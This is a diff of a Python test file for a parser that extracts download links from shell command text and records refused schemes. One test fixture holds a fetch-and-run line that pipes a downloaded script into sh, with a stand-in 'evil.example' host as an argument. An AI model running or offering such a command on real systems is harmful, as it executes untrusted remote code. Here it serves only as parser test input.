@@ -309,8 +309,8 @@ def test_the_value_of_an_option_is_no_address(program: str, letters: str) -> Non
 
 
 def test_an_address_that_cannot_be_asked_for_costs_only_itself() -> None:
-    parsed = parse_links(f"curl ftp://x.example/y {A} gopher://z.example/")
-    assert urls(parsed) == [A]
+    parsed = parse_links(f"curl ftp://x.example/y {A} gopher://z.example/\n  out=x.iso")
+    assert parsed.links == (Link(A, name="x.iso"),)
     assert [refused.reason[:6] for refused in parsed.refused] == ["ftp://"]
 
 
@@ -352,8 +352,11 @@ def test_a_sentence_is_no_command(text: str) -> None:
 
 
 def test_what_is_done_with_the_file_afterwards_is_ignored() -> None:
-    text = f"curl -O {A} && tar xf a.iso; cd a\nwget -O - {B} | sh -s https://evil.example/\n"
-    assert urls(parse_links(text)) == [A, B]
+    text = f"curl -O {A} && tar xf a.iso; cd a\nwget -O - {B} | sh -s https://evil.example/"
+    for end in ("", "\n", f"\n{A}?2"):
+        parsed = parse_links(text + end)
+        assert [link.line_no for link in parsed.links] == [1, 2, 3][: 3 if "?" in end else 2]
+        assert (urls(parsed)[:2], parsed.refused) == ([A, B], ())
 
 
 def test_two_commands_in_a_line() -> None:
